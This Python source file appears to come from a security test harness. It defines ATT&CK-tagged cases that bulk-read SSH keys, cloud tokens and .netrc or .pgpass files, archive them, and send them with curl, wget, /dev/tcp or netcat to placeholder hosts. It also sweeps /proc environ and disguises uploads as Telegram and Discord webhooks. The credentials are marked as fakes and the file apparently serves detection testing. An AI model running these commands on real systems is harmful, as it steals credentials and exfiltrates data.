"""What comes after one read: many kinds at once, packing, sending away, and whole environments of others."""

from __future__ import annotations

from attacks.cases.acts.base import HIGH, LOW, Act
from live.programs import Language

BULK = (
    Act(
        "harvest-shell-loop",
        "bulk_credential_read",
        "T1119",
        Language.BASH,
        """
for name in .ssh/harvest-shell-loop.pem .netrc .pgpass .npmrc .git-credentials; do [ -r ~/$name ] && cat ~/$name; done
""",
        secret="ssh",
        severity=HIGH,
        alone=True,
        in_cell=True,
    ),
    Act(
        "harvest-python-walk",
        "bulk_credential_read",
        "T1119",
        Language.PYTHON,
        """
import os, pathlib
home = pathlib.Path(os.environ["HOME"])
for name in (".npmrc", ".pgpass", ".git-credentials", ".config/gh/hosts.yml", ".ssh/harvest-python-walk.pem"):
    print((home / name).read_text())
""",
        secret="ssh",
        severity=HIGH,
        alone=True,
    ),
    Act(
        "harvest-perl-glob",
        "bulk_credential_read",
        "T1119",
        Language.PERL,
        """
for my $name (glob "$ENV{HOME}/.{pgpass,npmrc,netrc,git-credentials,ssh/harvest-perl-glob.pem}") {
    open my $file, '<', $name or die; print <$file>;
}
""",
        secret="ssh",
        severity=HIGH,
        alone=True,
    ),
    Act(
        "harvest-find-exec",
        "bulk_credential_read",
        "T1119",
        Language.BASH,
        r"find ~ -maxdepth 2 \( -name .netrc -o -name .my.cnf -o -name .npmrc -o -name harv\*.pem \) -exec cat {} +",
        secret="ssh",
        severity=HIGH,
        alone=True,
        programs=("find",),
    ),
)
PACKED = (
    Act(
        "pack-tar",
        "credential_archived_or_copied",
        "T1560.001",
        Language.BASH,
        "tar cz -C ~ .snowflake | tar xzO",
        secret="snowflake",
        programs=("tar",),
        in_cell=True,
    ),
    Act(
        "pack-zip",
        "credential_archived_or_copied",
        "T1560.001",
        Language.BASH,
        "cd && zip -q - .config/gcloud/legacy_credentials/pack-zip/adc.json > $OLDPWD/x.zip; $PYTHON -m zipfile -e "
        "$OLDPWD/x.zip $OLDPWD && cat $OLDPWD/.config/gcloud/*/*/adc.json",
        secret="google",
        programs=("zip",),
    ),
    Act(
        "pack-folder-copied",
        "credential_archived_or_copied",
        "T1074.001",
        Language.BASH,
        "cp -r ~/.ssh backup && cat backup/pack-folder-copied.pem",
        secret="ssh",
        in_cell=True,
    ),
    Act(
        "pack-encrypted",
        "credential_archived_or_copied",
        "T1560.001",
        Language.BASH,
        "openssl enc -aes-256-cbc -pbkdf2 -k x -in ~/.aws/sso/cache/pack-encrypted.json -out x.bin\n"
        "openssl enc -d -aes-256-cbc -pbkdf2 -k x -in x.bin",
        secret="sso",
        programs=("openssl",),
    ),
)
SENT = (
    Act(
        "send-curl-data",
        "credential_uploaded",
        "T1041",
        Language.BASH,
        "curl -sS --data-binary @$HOME/.aws/cli/cache/send-curl-data.json $WEB/up",
        "got ",
        "fake-send-curl-data-credential",
        "aws",
        HIGH,
        programs=("curl",),
        in_cell=True,
    ),
    Act(
        "send-curl-form",
        "credential_uploaded",
        "T1041",
        Language.BASH,
        "curl -sS -F f=@$HOME/.snowflake/send-curl-form.toml $WEB/up",
        "got ",
        "fake-send-curl-form-credential",
        "snowflake",
        HIGH,
        programs=("curl",),
        in_cell=True,
    ),
    Act(
        "send-wget-file",
        "credential_uploaded",
        "T1041",
        Language.BASH,
        "wget -q -O - --post-file=$HOME/.aws/sso/cache/send-wget-file.json $WEB/up",
        "got ",
        "fake-send-wget-file-credential",
        "sso",
        HIGH,
        programs=("wget",),
    ),
    Act(
        "send-after-read",
        "credential_read_then_sent",
        "T1041",
        Language.BASH,
        'text=$(tr -d "\\n" < "$SECRET"); sleep 0.5; curl -sS -d "$text" $WEB/up',
        "got ",
        "fake-send-after-read-credential",
        "ssh",
        programs=("curl",),
    ),
    Act(
        "send-bash-socket",
        "credential_read_then_sent",
        "T1041",
        Language.BASH,
        'text=$(<"$SECRET"); sleep 0.4; exec 3<>/dev/tcp/$HOST/$PORT && echo "$text" >&3 && echo sent',
        "sent",
        "fake-send-bash-socket-credential",
        "ssh",
    ),
    Act(
        "send-perl-socket",
        "credential_read_then_sent",
        "T1041",
        Language.PERL,
        """
use IO::Socket::INET;
open my $file, '<', $ENV{SECRET} or die; my $text = <$file>; close $file; sleep 1;
IO::Socket::INET->new("$ENV{HOST}:$ENV{PORT}")->print($text); print "sent";
""",
        "sent",
        "fake-send-perl-socket-credential",
        "google",
    ),
    Act(
        "send-netcat",
        "credential_read_then_sent",
        "T1041",
        Language.BASH,
        'cat "$SECRET" > c; sleep 0.4; nc.openbsd -N $HOST $PORT < c && echo sent',
        "sent",
        "fake-send-netcat-credential",
        "snowflake",
        programs=("nc.openbsd",),
    ),
)
ENVIRONS = (
    Act(
        "environ-cat-all",
        "environ_sweep",
        "T1003.007",
        Language.BASH,
        r"""
env MARK=own-mark-471$((1 + 1)) sleep 2 & sleep 0.3
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -a ^MARK=
sleep 1
""",
        "own-mark-4712",
        alone=True,
    ),
    Act(
        "environ-python-all",
        "environ_sweep",
        "T1003.007",
        Language.PYTHON,
        """
import os, subprocess, time
child = subprocess.Popen(["sleep", "2"], env={"MARK": "own-mark-4713"})
time.sleep(0.3)
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        text = open(f"/proc/{pid}/environ").read()
    except OSError:
        continue
    if pid == str(child.pid):
        print(text)
child.wait()
""",
        "own-mark-4713",
        alone=True,
        in_cell=True,
    ),
    Act(
        "environ-c-descending",
        "environ_sweep",
        "T1003.007",
        Language.C,
        r"""
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    char path[64], text[65536];
    for (int pid = 300000, child = fork(); pid > 1; pid--) {
        if (!child) {
            char *only[] = {"MARK=own-mark-4714", 0};
            execle("/bin/sleep", "sleep", "4", (char *)0, only);
        }
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        int file = open(path, O_RDONLY);
        long size = file < 0 ? 0 : read(file, text, sizeof text - 1);
        if (file >= 0) close(file);
        if (size > 0 && (text[size] = 0, strstr(text, "MARK=own-"))) puts(text);
    }
    sleep(1);
}
""",
        "own-mark-4714",
        alone=True,
    ),
)
UPLOADS = (
    Act(
        "upload-archive-pipe",
        "exfiltration_upload",
        "T1041",
        Language.BASH,
        "mkdir project; echo inside-the-archive > project/a; tar cf - project | curl -sS -T - $WEB/project.tar",
        "got ",
        "inside-the-archive",
        severity=LOW,
        programs=("curl", "tar"),
        in_cell=True,
    ),
    Act(
        "upload-archive-netcat",
        "exfiltration_upload",
        "T1041",
        Language.BASH,
        "mkdir data; echo inside-the-netcat > data/a; tar cf - data | nc.openbsd -N $HOST $PORT; echo sent",
        "sent",
        "inside-the-netcat",
        severity=LOW,
        programs=("nc.openbsd", "tar"),
    ),
    Act(
        "upload-to-chat",
        "exfiltration_paste",
        "T1567",
        Language.BASH,
        "echo for-the-chat > x\n"
        "curl -sS --connect-to api.telegram.org:80:${WEB#http://} -F document=@x http://api.telegram.org/bot1/sendDocument",
        "got ",
        "for-the-chat",
        programs=("curl",),
        in_cell=True,
    ),
    Act(
        "upload-to-webhook",
        "exfiltration_paste",
        "T1567",
        Language.BASH,
        'curl -sS --connect-to discord.com:80:${WEB#http://} --json \'{"content": "for-the-hook"}\' '
        "http://discord.com/api/webhooks/1/x",
        "got ",
        "for-the-hook",
        programs=("curl",),
    ),
)
NAMED: tuple[Act, ...] = (*BULK, *SENT)
"""Those that need the name of whoever read: while tar and its like run there are no leases."""
CASES: tuple[Act, ...] = (*PACKED, *UPLOADS, *ENVIRONS)
